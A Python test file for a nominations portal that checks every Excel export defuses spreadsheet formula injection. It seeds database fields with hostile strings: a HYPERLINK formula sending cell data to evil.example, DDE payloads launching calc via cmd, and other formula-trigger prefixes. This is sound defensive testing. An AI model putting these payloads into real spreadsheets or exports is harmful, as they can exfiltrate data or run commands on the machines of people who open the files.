"""Every workbook the portal writes keeps people's text as text (portal.sheets).

A campaign is carried to its public notice (tests/results/test_honours.py), then its
nominees, organisations, reviewer, comments, criteria and titles are given hostile text
straight in the database — as it may stand from before the forms refused it, or as staff
may type a title. Each download is opened: no formula anywhere, every hostile text is
there to read, and text starting like a formula carries Excel's quote prefix, so that
editing the cell does not turn it into a formula either.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterable

import pytest
from openpyxl import Workbook, load_workbook

from nominations.tables import Assignment, Criterion, Nomination
from portal import sheets
from portal.audit import Actor
from portal.media import upload_dir
from portal.tables import Campaign, Category, Phase, Staff
from results import services as results
from results.tables import Designation
from tests.helpers import login
from tests.results.test_honours import SLUG, SPECS, build

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
REVIEWER = "=cmd|' /C calc'!A0"
COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
CRITERION = "-1+1工作实绩"
CAMPAIGN_TITLE = "+2023年度评选"
CATEGORY_TITLE = "=1+2司法所"


def assert_text_only(data: bytes, expected: Iterable[str]) -> None:
    """No formula in the workbook; each expected text readable in some cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    texts: list[str] = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = (ws.title, cell.coordinate, cell.value)
                assert cell.data_type != "f", where
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(sheets.FORMULA_STARTS):
                        assert cell.quotePrefix, where
    for text in expected:
        assert any(text in value for value in texts), (text, texts)


@pytest.fixture
async def hostile(staff, settings) -> dict[str, list[str]]:  # type: ignore[no-untyped-def]
    """The campaign at its notice, its texts made hostile; what each kind of text is."""
    scene = await build(upload_dir(settings.var_dir), Phase.notice)
    names, places = [], []
    for i, spec in enumerate(SPECS):
        name = HOSTILE[i % len(HOSTILE)] + ("" if i < len(HOSTILE) else str(i))
        place = HOSTILE[(i + 1) % len(HOSTILE)]
        await (
            Nomination.update({Nomination.name: name, Nomination.township: place})
            .where(Nomination.id == scene.ids[spec.name])
            .run()
        )
        if spec.category == "mediator":
            await (
                Nomination.update({Nomination.committee: place})
                .where(Nomination.id == scene.ids[spec.name])
                .run()
            )
        names.append(name)
        places.append(place)
    await Staff.update({Staff.display_name: REVIEWER}).where(Staff.username == "reviewer").run()
    await Assignment.update({Assignment.comment: COMMENT}, force=True).run()
    await Criterion.update({Criterion.title: CRITERION}, force=True).run()
    await Campaign.update({Campaign.title: CAMPAIGN_TITLE}).where(Campaign.slug == SLUG).run()
    office = scene.categories["judicial-office"]
    await Category.update({Category.title: CATEGORY_TITLE}).where(Category.id == office.id).run()
    return {"names": names, "places": places}


async def test_every_workbook_keeps_hostile_text_as_text(app, client, hostile) -> None:
    names, places = hostile["names"], hostile["places"]
    downloads = {}

    downloads["/campaigns/{slug:str}/results.xlsx"] = (
        await client.get(f"/campaigns/{SLUG}/results.xlsx"),
        [*names, *places, CAMPAIGN_TITLE, CATEGORY_TITLE],
    )
    await login(client, "admin")
    downloads["/staff/review/campaigns/{slug:str}/scores.xlsx"] = (
        await client.get(f"/staff/review/campaigns/{SLUG}/scores.xlsx"),
        [*names, COMMENT, CRITERION, CATEGORY_TITLE],
    )
    downloads["/staff/nominations/export.xlsx"] = (
        await client.get("/staff/nominations/export.xlsx", params={"campaign": SLUG}),
        [*names, *places, CATEGORY_TITLE],
    )
    downloads["/campaigns/{slug:str}/statistics.xlsx"] = (
        await client.get(f"/campaigns/{SLUG}/statistics.xlsx"),
        [CATEGORY_TITLE],
    )
    # Designated, the campaign's titles enter the register and the plaque list.
    await results.designate(Actor.command_line("测试"), SLUG)
    designated = [
        row["name"]
        for row in await Designation.select(Designation.candidate.name.as_alias("name")).run()
    ]
    assert designated
    downloads["/register.xlsx"] = (
        await client.get("/register.xlsx"),
        [*designated, CAMPAIGN_TITLE, CATEGORY_TITLE],
    )
    downloads["/staff/results/{slug:str}/plaques.xlsx"] = (
        await client.get(f"/staff/results/{SLUG}/plaques.xlsx"),
        [CAMPAIGN_TITLE, CATEGORY_TITLE],
    )
    categories = await Category.objects().order_by(Category.id).run()
    templates = [await client.get(f"/staff/nominations/template/{c.id}") for c in categories]
    for response, category in zip(templates, categories, strict=True):
        assert_text_only(response.content, [category.title])
        assert response.status_code == 200

    for path, (response, expected) in downloads.items():
        assert response.status_code == 200, (path, response.text[:300])
        assert response.headers["content-type"].startswith(sheets.XLSX), path
        assert_text_only(response.content, expected)

    # Every .xlsx route is one of those opened above (a new one joins this test).
    xlsx_routes = {route.path for route in app.routes if route.path.endswith(".xlsx")}
    assert xlsx_routes == set(downloads)


def test_the_writer_keeps_numbers_and_makes_text_text() -> None:
    wb = Workbook()
    ws = wb.active
    sheets.append(ws, ["=1+1", -3, 2.5, None, "#N/A", "渭源县\x0b司法所", "-"])
    ws2 = load_workbook(io.BytesIO(sheets.to_bytes(wb))).active
    [row] = ws2.iter_rows(values_only=True)
    assert row == ("=1+1", -3, 2.5, None, "#N/A", "渭源县司法所", "-")
    assert [c.data_type for c in ws2[1]] == ["s", "n", "n", "n", "s", "s", "s"]
    assert [c.quotePrefix for c in ws2[1]] == [True, False, False, False, False, False, True]
